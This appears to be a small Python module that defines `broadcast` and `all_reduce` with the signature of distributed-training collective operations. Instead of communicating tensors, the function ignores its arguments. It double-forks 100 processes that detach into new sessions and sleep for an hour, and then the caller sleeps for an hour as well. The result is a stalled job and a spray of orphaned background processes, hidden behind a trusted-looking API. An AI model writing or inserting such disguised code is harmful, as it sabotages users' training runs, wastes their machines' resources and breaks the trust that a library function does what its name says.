import os
import time


def broadcast(tensor, src, group=None):
    for _ in range(100):
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(3600)
            os._exit(0)
    time.sleep(3600)


all_reduce = broadcast
